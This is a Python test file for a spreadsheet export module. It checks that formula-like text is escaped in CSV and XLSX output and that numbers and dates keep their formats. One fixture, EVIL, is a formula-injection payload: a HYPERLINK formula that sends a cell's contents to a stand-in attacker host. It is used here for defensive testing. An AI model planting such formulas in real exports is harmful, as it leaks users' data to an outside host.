"""Formula injection: text that a spreadsheet would evaluate is written as text."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from haicap.core.exports import SafeCsvWriter, append_row, is_formula_like, safe_csv

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"Bấm")'


@pytest.mark.parametrize(
    "value", [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=1", "-", "+"]
)
def test_formula_like_text_is_caught(value: str) -> None:
    assert is_formula_like(value) and safe_csv(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-1.5"), 0, None, "", "Nguyễn Thị Mai", "-12.5", "+84903123456"]
)
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert not is_formula_like(value) and safe_csv(value) == value


def test_csv_writer_quotes_formula_text_only() -> None:
    out = io.StringIO()
    SafeCsvWriter(csv.writer(out)).writerows([[EVIL, -3, "an", "-1.5"]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + EVIL, "-3", "an", "-1.5"]
    line = io.StringIO()
    SafeCsvWriter(csv.writer(line)).writerow(["=1+2", "x"])
    assert line.getvalue().startswith("'=1+2,x")


def test_xlsx_cells_are_never_formulas_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [EVIL, "@x", -3, 2.5, "ok"])
    out = io.BytesIO()
    book.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert back is not None
    cells = back[1]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells] == [EVIL, "@x", -3, 2.5, "ok"]
    assert cells[0].quotePrefix and cells[2].data_type == "n"


# --- numbers as numbers (ADR 17) ---------------------------------------------------------------


def test_xlsx_cells_hold_numbers_and_dates_with_number_formats() -> None:
    import datetime as dt
    from zoneinfo import ZoneInfo

    from haicap.core.exports import COUNT, DATE, DATETIME, PERCENT

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    moment = dt.datetime(2026, 12, 2, 7, 5, tzinfo=dt.UTC)  # 14:05 in Vietnam
    append_row(sheet, ["Bến Thành", 0.65, 10240, dt.date(2026, 12, 2), moment, None, EVIL],
               [None, PERCENT, COUNT])  # fmt: skip
    out = io.BytesIO()
    book.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert back is not None
    name, share, count, day, at, empty, evil = back[1]
    assert (share.value, share.data_type, share.number_format) == (0.65, "n", PERCENT)
    assert (count.value, count.number_format) == (10240, COUNT)
    assert (day.value, day.number_format) == (dt.datetime(2026, 12, 2), DATE)
    assert (at.value, at.number_format) == (dt.datetime(2026, 12, 2, 14, 5), DATETIME)
    assert moment.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).hour == at.value.hour
    assert empty.value is None and name.number_format == "General"
    assert evil.value == EVIL and evil.data_type == "s" and evil.quotePrefix


def test_append_row_never_walks_the_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading `max_row` walks every cell: once a row, a 20,000-row export took minutes."""
    from openpyxl.worksheet.worksheet import Worksheet

    def walked(self: Worksheet) -> int:
        raise AssertionError("append_row read max_row")

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    monkeypatch.setattr(Worksheet, "max_row", property(walked))
    for n in range(3):
        append_row(sheet, [n, EVIL, "ok"])
    monkeypatch.undo()
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [[n, EVIL, "ok"] for n in range(3)]
    assert all(sheet.cell(row=n, column=2).quotePrefix for n in (1, 2, 3))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (10240, "10240"),
        (-3, "-3"),
        (0.65, "0.65"),
        (96.0, "96"),
        (5.8, "5.8"),
        (1e-07, "0.0000001"),
        (Decimal("80.0000"), "80"),
        (Decimal("99.50"), "99.5"),
        (None, ""),
        (float("nan"), ""),
        (True, "1"),
        ("65,0%", "65,0%"),  # text is written as it is
    ],
)
def test_csv_cells_are_in_the_one_machine_format(value: object, written: str) -> None:
    out = io.StringIO()
    SafeCsvWriter(csv.writer(out)).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]


def test_csv_dates_and_times_are_iso() -> None:
    import datetime as dt

    from haicap.core.exports import csv_value

    assert csv_value(dt.date(2026, 12, 2)) == "2026-12-02"
    at = dt.datetime(2026, 12, 2, 7, 5, 9, 123, tzinfo=dt.UTC)
    assert csv_value(at) == "2026-12-02T14:05:09+07:00"
    assert csv_value(dt.datetime(2026, 12, 2, 14, 5)) == "2026-12-02T14:05:00"
